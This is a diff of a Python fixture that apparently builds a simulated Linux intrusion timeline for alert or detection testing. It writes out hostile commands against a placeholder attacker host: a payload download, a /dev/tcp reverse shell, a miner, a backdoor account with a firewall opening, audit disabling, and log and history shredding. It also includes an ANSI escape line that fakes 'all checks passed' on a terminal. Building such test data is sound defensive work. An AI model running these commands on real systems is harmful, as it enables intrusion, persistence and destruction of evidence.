@@ -45,23 +45,31 @@ CONNECTIONS = 144
 TRIES = 3
 
 _X = "/tmp/.x"
+#: What the alerts quote of it.
+FIND_SETUID = "find / -perm -4000 -type f"
+FETCH = f"curl -fsSL http://{ATTACKER}:8080/k/dbus-hlp --create-dirs -o {_X}/dbus-hlp"
+REVERSE_SHELL = f"bash -c /bin/sh -i >& /dev/tcp/{ATTACKER}/4444 0>&1"
+ADD_USER = 'useradd -m -s /bin/bash -c "сервис 保守 backup" svc-backup'
+LISTEN = f"{_X}/dbus-hlp --listen 0.0.0.0:31337 --daemon"
+LET_IN = "iptables -I INPUT -p tcp --dport 31337 -j ACCEPT"
+AUDIT_SWITCH = "auditctl -e 0"
+MINE = f"{_X}/kworkerds -o {ATTACKER}:3333 -u plant7 -p x -B"
+SHRED_LOGS = "shred -u /var/log/auth.log /var/log/wtmp"
+CLEAR_HISTORY = "shred -u /home/operator/.bash_history /root/.bash_history"
+STOP_AUDIT = "/bin/sh /usr/sbin/service auditd stop"
 _SHELL, _ROOT_SHELL = 21877, 22015
 #: minute, second, executable, command line, user id.
 STEPS = (
     (22, 33, "/bin/bash", "-bash", "1001"),
     (24, 2, "/usr/bin/id", "id", "1001"),
-    (24, 5, "/bin/uname", "uname -a", "1001"),
-    (24, 11, "/usr/bin/w", "w -h", "1001"),
     (24, 40, "/bin/cat", "cat /etc/passwd", "1001"),
     (25, 3, "/bin/ss", "ss -tulpn", "1001"),
-    (25, 30, "/bin/ps", "ps auxww", "1001"),
-    (26, 14, "/usr/bin/find", "find / -perm -4000 -type f", "1001"),
+    (26, 14, "/usr/bin/find", FIND_SETUID, "1001"),
     (27, 48, "/bin/bash", "bash -c cat /proc/cpuinfo | grep -c ^processor; free -m", "1001"),
     (28, 20, "/usr/bin/sudo", "sudo -n -l", "1001"),
     (29, 8, "/usr/bin/sudo", "sudo cat /etc/shadow", "1001"),
     (29, 9, "/bin/cat", "cat /etc/shadow", "0"),
-    (32, 50, "/bin/mkdir", f"mkdir -p {_X}", "1001"),
-    (33, 7, "/usr/bin/curl", f"curl -fsSL http://{ATTACKER}:8080/k/x.tgz -o {_X}/x.tgz", "1001"),
+    (33, 7, "/usr/bin/curl", FETCH, "1001"),
     (
         33,
         41,
@@ -69,26 +77,23 @@ STEPS = (
         f"wget -qO {_X}/kworkerds http://{ATTACKER}:8080/k/`uname -m`",
         "1001",
     ),
-    (34, 2, "/bin/tar", f"tar xzf {_X}/x.tgz -C {_X}", "1001"),
     (34, 15, "/bin/chmod", f"chmod +x {_X}/kworkerds {_X}/dbus-hlp", "1001"),
     (35, 12, f"{_X}/kworkerds", f"{_X}/kworkerds --version", "1001"),
-    (38, 1, "/bin/bash", f"bash -c /bin/sh -i >& /dev/tcp/{ATTACKER}/4444 0>&1", "1001"),
+    (38, 1, "/bin/bash", REVERSE_SHELL, "1001"),
     (38, 2, "/bin/sh", "/bin/sh -i", "1001"),
     (44, 50, "/usr/bin/sudo", "sudo /bin/sh", "1001"),
-    (45, 4, "/usr/sbin/useradd", 'useradd -m -s /bin/bash -c "сервис 保守 backup" svc-backup', "0"),
-    (45, 20, "/usr/sbin/chpasswd", "chpasswd", "0"),
-    (57, 59, "/bin/cp", f"cp {_X}/dbus-hlp /usr/lib/dbus-hlp", "0"),
-    (58, 20, f"{_X}/dbus-hlp", f"{_X}/dbus-hlp --listen 0.0.0.0:31337 --daemon", "0"),
-    (58, 52, "/sbin/iptables", "iptables -I INPUT -p tcp --dport 31337 -j ACCEPT", "0"),
+    (45, 4, "/usr/sbin/useradd", ADD_USER, "0"),
+    (58, 20, f"{_X}/dbus-hlp", LISTEN, "0"),
+    (58, 52, "/sbin/iptables", LET_IN, "0"),
     (62, 12, "/usr/sbin/usermod", "usermod -aG sudo svc-backup", "0"),
     (63, 5, "/usr/bin/crontab", "crontab -l", "0"),
     (67, 40, "/sbin/auditctl", "auditctl -s", "0"),
-    (67, 58, "/sbin/auditctl", "auditctl -e 0", "0"),
+    (67, 58, "/sbin/auditctl", AUDIT_SWITCH, "0"),
     (76, 1, "/sbin/auditctl", "auditctl -e 1", "0"),
     (78, 44, "/bin/bash", "-bash", "1002"),
     (79, 30, "/usr/bin/sudo", "sudo /bin/sh", "1002"),
-    (80, 25, "/usr/bin/nohup", f"nohup {_X}/kworkerds -o {ATTACKER}:3333 -u plant7 -p x -B", "0"),
-    (80, 26, f"{_X}/kworkerds", f"{_X}/kworkerds -o {ATTACKER}:3333 -u plant7 -p x -B", "0"),
+    (80, 25, "/usr/bin/nohup", f"nohup {MINE}", "0"),
+    (80, 26, f"{_X}/kworkerds", MINE, "0"),
     # Meant for whoever watches the log in a terminal: up one line, wipe it, print something calm.
     (
         86,
@@ -97,10 +102,10 @@ STEPS = (
         "echo \x1b[1A\x1b[2K\x1b[32mall checks passed\x1b[0m [/red][bold]OK[/bold] | tee /dev/tty0",
         "0",
     ),
-    (87, 33, "/usr/bin/shred", "shred -u /var/log/auth.log /var/log/wtmp", "0"),
-    (88, 2, "/bin/rm", "rm -f /home/operator/.bash_history /root/.bash_history", "0"),
-    (88, 9, "/bin/ln", "ln -sf /dev/null /home/operator/.bash_history", "0"),
-    (90, 0, "/usr/sbin/service", "service auditd stop", "0"),
+    (87, 33, "/usr/bin/shred", SHRED_LOGS, "0"),
+    (88, 2, "/usr/bin/shred", CLEAR_HISTORY, "0"),
+    # A script: the kernel records the shell that runs it.
+    (90, 0, "/bin/sh", STOP_AUDIT, "0"),
 )
 
 #: minute, second, executable, direction, remote end, user id.
